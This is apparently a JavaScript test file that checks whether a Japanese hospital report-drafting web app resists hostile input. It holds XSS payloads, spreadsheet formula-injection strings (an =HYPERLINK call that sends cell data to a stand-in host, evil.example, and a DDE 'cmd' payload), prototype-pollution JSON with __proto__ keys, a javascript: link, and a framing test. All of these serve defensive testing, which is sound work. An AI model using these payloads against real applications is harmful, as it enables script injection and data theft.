// What strangers might hand to the app: drafts, files with several drafts, catalogues and frames that mean harm. Nothing
// of it runs, nothing of it reaches what is around it, and what was typed before is still there.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { inflateRawSync } from 'node:zlib';

import {
  STEPS, arrived, begin, chooseFile, control, download, eventually, example, go, kept, openFile, parseCsv, record,
  reload, source, stored, type,
} from './app.mjs';
import { scenario } from './harness.mjs';

/** Text that runs wherever it is taken for HTML. */
const SCRIPT = '<img src=x onerror="window.evil = true"><script>window.evil = true</script><svg onload="window.evil = true">';

/** All screens with something of the draft on them. */
const SCREENS = [...STEPS, 'transcribe', 'explain', 'drafts', 'history', 'differences', 'settings', 'help'];

/** Goes to a screen and waits until all of it is there. */
async function shown(page, step) {
  await go(page, step);
  if (await page.locator('#shelf').count()) await page.locator('#shelf > *').first().waitFor();
}

/** Nothing of the text has become part of the page. What the browser would refuse to run is seen by the harness. */
async function unharmed(page, where) {
  const made = await page.evaluate(() => ({
    evil: window.evil,
    elements: document.querySelectorAll('img, script:not([src]), [onerror], [onload], iframe, object, embed, form[action]').length,
  }));
  assert.deepEqual(made, { evil: undefined, elements: 0 }, where);
}

/** Nothing was added to what every object has. */
async function unpolluted(page, where) {
  const found = await page.evaluate(() => [
    {}.polluted, [].polluted, (() => {}).polluted,
    ...Object.keys(Object.prototype), ...Object.keys(Array.prototype), ...Object.keys(Function.prototype),
  ].filter((one) => one !== undefined));
  assert.deepEqual(found, [], where);
}

scenario('a script in a name or an answer is text on every screen', async ({ page, url }) => {
  const draft = example({
    'facility.name': `${SCRIPT}医院`,
    'facility.address': SCRIPT,
    'f1.diseases': ['2', 'other', SCRIPT],
    'f1.diseases.other': SCRIPT,
    'f1.remarks': SCRIPT,
    'f2i.own': SCRIPT,
    'f2ha.remarks': SCRIPT,
    [SCRIPT]: SCRIPT,
  });
  await begin(page, url, draft, 'target');
  const title = await page.title();
  for (const step of SCREENS) {
    await shown(page, step);
    await unharmed(page, step);
  }
  for (const [step, place] of [['notice', 'main .notice-sheet'], ['drafts', '#shelf']]) {
    await shown(page, step);
    await eventually(async () => (await page.locator(place).first().innerText()).includes('<img src=x'), true, step);
  }
  await shown(page, 'explain');
  assert.ok((await page.locator('.plan-sheet').innerText()).includes('<img src=x'));
  assert.ok(!title.includes('onerror'));
});

scenario('words that our own pages use for places to fill in are text in a name', async ({ page, url }) => {
  const name = '%styles%<styles>{{styles}}$&医院';
  await begin(page, url, example({ 'facility.name': name }), 'notice');
  const file = (await download(page, () => page.getByRole('button', { name: /HTML/ }).click())).bytes.toString('utf8');
  const written = name.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  assert.ok(file.match(/<title>([^<]*)/)[1].includes(written));
  assert.match(file.match(/<style>([^<]*)/)[1], /@page/);
});

scenario('a script in a label of a catalogue is text on every screen', async ({ page, url }) => {
  const written = SCRIPT.replaceAll('"', "'");
  const edition = (await source('crates/catalog/editions/R7.toml'))
    .replace('label = "令和7年度報告"', `label = "${written}"`)
    .replaceAll(/^(short|help|note|number) = ".*"$/gm, (line, name) => (name === 'number' ? line : `${name} = "${written}"`))
    .replaceAll(/\{ key = "(\w+)", label = "[^"]*"/g, (_, key) => `{ key = "${key}", label = "${key}${written}"`);
  await begin(page, url, example(), 'settings');
  await page.getByLabel('台帳のファイルを選ぶ').setInputFiles({ name: `${written}.toml`, mimeType: 'application/toml', buffer: Buffer.from(edition) });
  await page.locator('#shelf').getByText('を使います。この年度の').waitFor();
  for (const step of SCREENS) {
    await shown(page, step);
    await unharmed(page, step);
  }
  await go(page, 'f1');
  assert.ok((await page.locator('main').innerText()).includes('<img src=x'), 'the label is on the screen');
  // And what is wrong with a catalogue is told as text too.
  await shown(page, 'settings');
  const choose = (text) => page.getByLabel('台帳のファイルを選ぶ').setInputFiles({ name: `${written}.toml`, mimeType: 'application/toml', buffer: Buffer.from(text) });
  await choose(edition.replace('[[item]]', `[[${'item'}]]\n'${written}' = 1`));
  await page.locator('#shelf').getByText('直すところが').waitFor();
  await unharmed(page, 'a catalogue with mistakes');
});

/** The files in a ZIP archive, by name. */
function unzip(bytes) {
  const files = {};
  let at = bytes.readUInt32LE(bytes.lastIndexOf(Buffer.from('PK\x05\x06')) + 16);
  while (bytes.readUInt32LE(at) === 0x02014b50) {
    const [method, size, name, extra, comment] = [10, 20, 28, 30, 32].map((place) => (place === 20 ? bytes.readUInt32LE(at + place) : bytes.readUInt16LE(at + place)));
    const local = bytes.readUInt32LE(at + 42);
    const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28);
    const content = bytes.subarray(start, start + size);
    files[bytes.toString('utf8', at + 46, at + 46 + name)] = (method === 8 ? inflateRawSync(content) : content).toString('utf8');
    at += 46 + name + extra + comment;
  }
  return files;
}

scenario('no cell of a spreadsheet that is saved is a formula', async ({ page, url }) => {
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '＝1+1', ' =1+1'];
  const draft = example({
    'facility.name': formulas[0],
    'facility.address': formulas[1],
    'f1.remarks': formulas[2],
    'f1.diseases': ['2', 'other'],
    'f1.diseases.other': formulas[3],
    'f2i.remarks': formulas[4],
    'f2ro.remarks': formulas[5],
    'f2ha.remarks': formulas[6],
    'f2ni.remarks': formulas[7],
  });
  await begin(page, url, draft, 'export');
  const save = (name) => download(page, () => page.getByRole('button', { name }).click());
  for (const name of [/^CSV\(Excel/, /^CSV\(システム/]) {
    const file = await save(name);
    const cells = parseCsv(file.bytes.toString('utf8').replace('\ufeff', '')).flat();
    assert.ok(cells.some((cell) => cell.includes('HYPERLINK')), file.name);
    // A name that begins so is written with an apostrophe before it, as spreadsheets do to say that it is text.
    for (const cell of cells) assert.doesNotMatch(cell, /^[\s\p{C}]*[=+\-@＝＋－＠]/u, file.name);
  }
  const { bytes } = await save(/^Excelファイル/);
  const files = unzip(bytes);
  const sheets = Object.entries(files).filter(([name]) => name.startsWith('xl/worksheets/'));
  assert.ok(sheets.length > 0);
  assert.ok(Object.values(files).some((text) => text.includes('HYPERLINK(')), 'the text is in the workbook');
  for (const [name, xml] of Object.entries(files)) {
    assert.doesNotMatch(xml, /<f[ >/]|<hyperlink|ddeLink|TargetMode="External"|vbaProject/, name);
  }
});

/** A draft whose keys are the names of what every object has; written by hand, since JavaScript would not. */
const POLLUTING = JSON.stringify(example({ 'facility.name': '汚染医院' }))
  .replace('"answers":{', `"answers":{${['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'].map((key) => `"${key}":{"polluted":true,"prototype":{"polluted":true}}`).join()},`)
  .replace('"facility":{', '"facility":{"__proto__":{"polluted":true},"constructor":"polluted",')
  .replace(/^\{/, '{"__proto__":{"polluted":true,"edition":"R8"},"constructor":{"prototype":{"polluted":true}},');

scenario('keys of a draft that are names of what every object has change nothing and are not lost', async ({ page, url }) => {
  await begin(page, url, example(), 'review');
  const findings = await page.locator('.summary-list .finding-code').allInnerTexts();
  await openFile(page, POLLUTING, '汚染.kakari.json');
  await unpolluted(page, 'opened');
  for (const step of SCREENS) {
    await shown(page, step);
    await unpolluted(page, step);
  }
  await go(page, 'facility');
  await type(page, '電話番号', '011-123-4567');
  await kept(page);
  const { text } = await record(page);
  for (const key of ['"__proto__"', '"constructor"', '"prototype"', '"toString"', '"hasOwnProperty"']) {
    assert.ok(text.includes(key), `${key} is still in the draft`);
  }
  assert.ok(text.includes('"edition":"R7"') || text.includes('"edition": "R7"'));
  await reload(page);
  await unpolluted(page, 'after a reload');
  // What is found is what is found without them, and that the keys are unknown.
  await go(page, 'review');
  const now = await page.locator('.summary-list .finding-code').allInnerTexts();
  assert.deepEqual(findings.filter((code) => !now.includes(code)), []);
});

scenario('a file with several drafts that means harm harms nothing, and every screen still opens', async ({ page, url }) => {
  await begin(page, url, example({ 'facility.name': '無事医院' }), 'facility');
  const harmful = JSON.stringify(POLLUTING);
  const keyed = (value) => `{"name":"keyed","value":${JSON.stringify(value)}}`;
  const entry = (keyedValue) => `{"__proto__":{"polluted":true},
    "record":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"text":${harmful},"revision":1,
      "savedAt":"<img src=x onerror=1>","name":{"polluted":true},"turn":"x"},
    "history":[{"__proto__":{"polluted":true},"number":1,"text":${harmful},"savedAt":null},{"number":2,"text":{"a":1}}],
    "beside":[${keyed(keyedValue)},{"name":"__proto__","value":{"polluted":true}},{"name":"constructor","value":1},
      {"name":"file","value":{"polluted":true}},{"name":"confirmedOn","value":"${'<img src=x onerror=1>'}"}]}`;
  const ticks = [
    '{"__proto__":{"then":"x","polluted":true},"constructor":{"then":"x","label":"<img src=x>","section":"1号機能"},"facility.name":{"then":5},"x":null}',
    'null', '[1]', '"text"', '<!doctype html>',
  ];
  await chooseFileOfMany(page, `{"format":"kakari-drafts","version":1,"drafts":[${ticks.map(entry).join()}]}`);
  await eventually(async () => Object.keys(await stored(page, 'drafts')).length, ticks.length + 1);
  await page.locator('#shelf .drafts-list').first().waitFor();
  await unpolluted(page, 'imported');
  await unharmed(page, 'imported');
  for (let at = 0; at < ticks.length; at += 1) {
    await shown(page, 'drafts');
    await page.locator('#shelf > .drafts-list > .drafts-entry', { hasText: '汚染医院' }).nth(at).getByRole('button', { name: /^(開く|続ける)/ }).click();
    await page.locator('.page:not([data-step="drafts"])').waitFor();
    for (const step of ['transcribe', 'history', 'differences', 'explain', 'review']) {
      await shown(page, step);
      await unharmed(page, `${step} ${ticks[at]}`);
      await unpolluted(page, `${step} ${ticks[at]}`);
      if (step === 'transcribe') await page.locator('.keying-progress').waitFor();
      if (step === 'history') await page.locator('#shelf .drafts-entry').first().waitFor();
    }
  }
  // The person's own draft is as it was.
  await shown(page, 'drafts');
  await page.locator('#shelf > .drafts-list > .drafts-entry', { hasText: '無事医院' }).getByRole('button', { name: /^(開く|続ける)/ }).click();
  await page.locator('.page:not([data-step="drafts"])').waitFor();
  await go(page, 'facility');
  assert.equal(await control(page, 'facility.name').inputValue(), '無事医院');
});

/** Chooses a file with several drafts on the first page, which leads to the list. */
async function chooseFileOfMany(page, text) {
  await go(page, '');
  await chooseFile(page, text, '下書き一式.json');
  await arrived(page, 'drafts');
}

scenario('a configuration that means harm is text on the page that makes it', async ({ page, url }) => {
  await begin(page, url, example({ 'facility.name': '無事医院' }), 'embed', { day: '2026-11-22' });
  const configuration = `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"format":"kakari-prefecture","version":1,
    "name":${JSON.stringify(SCRIPT)},"contacts":[{"__proto__":{"polluted":true},"name":${JSON.stringify(SCRIPT)}}],"colors":{"__proto__":{"polluted":true},"accent":${JSON.stringify(SCRIPT)}},
    "links":[{"label":${JSON.stringify(SCRIPT)},"url":"javascript:window.evil=true"},{"label":"a","url":${JSON.stringify(`https://a.example/"><script>`)}}],
    ${JSON.stringify(SCRIPT)}:${JSON.stringify(SCRIPT)}}`;
  await page.getByLabel('前に作った設定ファイルを開く').setInputFiles({ name: `${SCRIPT.replaceAll('/', '')}.json`, mimeType: 'application/json', buffer: Buffer.from(configuration) });
  await page.locator('.prefecture-opened').getByText('次のところがありました').waitFor();
  await unharmed(page, 'a configuration');
  await unpolluted(page, 'a configuration');
  assert.equal(await page.locator('a[href^="javascript:"]').count(), 0);
  assert.ok((await page.locator('main').innerText()).includes('<img src=x'));
});

scenario('what is no list of drafts is refused as a whole', async ({ page, url }) => {
  await begin(page, url, example(), 'drafts');
  for (const drafts of ['[null]', '[[]]', '[{"record":null,"history":{}}]', '{"length":1}', '[{"record":{},"history":[null]}]', '[{"record":{},"beside":[{"name":1}]}]']) {
    await chooseFile(page, `{"format":"kakari-drafts","version":1,"drafts":${drafts}}`);
    await page.locator('.open-file [role=alert]', { hasText: '壊れていて' }).waitFor();
    assert.equal(Object.keys(await stored(page, 'drafts')).length, 1, drafts);
    await page.locator('.open-file [role=alert]').waitFor();
    await reload(page);
    await page.getByLabel('下書きファイル').waitFor();
  }
  await unpolluted(page, 'refused');
});

scenario('ten megabytes in a file are refused with a word, and the draft that is open stays', async ({ page, url }) => {
  await begin(page, url, example({ 'facility.name': '無事医院' }), '');
  await chooseFile(page, JSON.stringify(example({ 'f1.remarks': 'あ'.repeat(10 * 1024 * 1024 / 3) })));
  await page.locator('.open-file [role=alert]', { hasText: '大きすぎます' }).waitFor();
  assert.equal(JSON.parse((await record(page)).text).facility.name, '無事医院');
});

scenario('ten megabytes in a draft that is kept already are kept whole, and the app goes on', async ({ page, url }) => {
  const remarks = 'a'.repeat(10 * 1024 * 1024);
  await begin(page, url, example({ 'f1.remarks': remarks }), 'facility');
  await type(page, '電話番号', '011-123-4567');
  const draft = await kept(page);
  assert.equal(draft.facility.phone, '011-123-4567');
  assert.ok(draft.answers['f1.remarks'] === remarks);
});

scenario('another page cannot show the app in a frame', async ({ page, url, test: t, tolerate }) => {
  tolerate(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE|refused to connect/i);
  const server = createServer((request, response) => {
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(`<!doctype html><link rel="icon" href="data:,"><p>都道府県のページに似せたページ</p><iframe src="${url}" title="枠"></iframe>`);
  });
  await new Promise((listening) => server.listen(0, '127.0.0.1', listening));
  t.after(() => server.close());
  const [refused] = await Promise.all([
    page.waitForEvent('console', (message) => /frame-ancestors/.test(message.text())),
    page.goto(`http://127.0.0.1:${server.address().port}/`),
  ]);
  assert.match(refused.text(), /'none'/);
  const [frame] = page.frames().filter((one) => one !== page.mainFrame());
  assert.ok(!(await frame.content()).includes('下書きチェッカー'));
});
